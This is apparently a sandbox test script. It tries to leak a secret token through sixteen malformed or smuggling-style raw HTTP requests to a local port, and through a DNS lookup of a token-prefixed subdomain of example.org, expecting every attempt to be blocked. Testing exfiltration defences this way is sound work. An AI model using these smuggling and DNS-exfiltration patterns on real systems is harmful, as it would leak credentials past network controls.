# tries: have the value put where the guest can learn of it: into lengths, methods, names of fields, bodies, chunks, upgrades, half a placeholder
# holds: only targets and values of fields get it; nothing of it can be measured or comes back
# world: network
# expect: {"exitCode": 0, "stdoutIncludes": "held: done"}
import os
import socket

from attempts import outcome

ALLOWED = os.environ['ALLOWED']
token = os.environ['TOKEN']
HOST = f'Host: 127.0.0.1:{ALLOWED}\r\nConnection: close'
REQUESTS = [
    f'{token} /reflect HTTP/1.1\r\n{HOST}\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\n{token}: x\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\nHost: {token}\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\nContent-Length: {token}\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding: {token}\r\n\r\n',
    f'POST /reflect HTTP/1.1\r\n{HOST}\r\nContent-Length: {len(token)}\r\n\r\n{token}',
    f'POST /reflect HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding: chunked\r\n\r\n{len(token):x}\r\n{token}\r\n0\r\n\r\n',
    f'POST /reflect HTTP/1.1\r\n{HOST}\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nX-Late: {token}\r\n\r\n',
    f'GET /reflect/{token}/{token.upper()}/{token[:-1]} HTTP/1.1\r\n{HOST}\r\n\r\n',
    f'GET /reflect?to={token[:20]}%{ord(token[20]):x}{token[21:]} HTTP/1.1\r\n{HOST}\r\n\r\n',
    f'GET http://{token}/reflect HTTP/1.1\r\n{HOST}\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\nX: {token[:10]}\r\n {token[10:]}\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\nUpgrade: {token}\r\nConnection: Upgrade\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\nX: ' + f'{token} ' * 500 + '\r\n\r\n',
    f'GET /reflect HTTP/1.1\r\n{HOST}\r\nAuthorization: Basic {token}\r\nX-Nested: {token[:15]}{token}{token[15:]}\r\n\r\n',
    f'{token}\r\n\r\n{token}',
]
for request in REQUESTS:
    with socket.create_connection(('127.0.0.1', int(ALLOWED)), timeout=10) as plain:
        try:
            plain.sendall(request.encode())
            received = b''
            while piece := plain.recv(65536):
                received += piece
            print(len(received), received[:3000])
        except OSError as error:
            print('held:', error)
print(outcome(lambda: socket.getaddrinfo(f'{token}.example.org', 80)))
print('held: done')
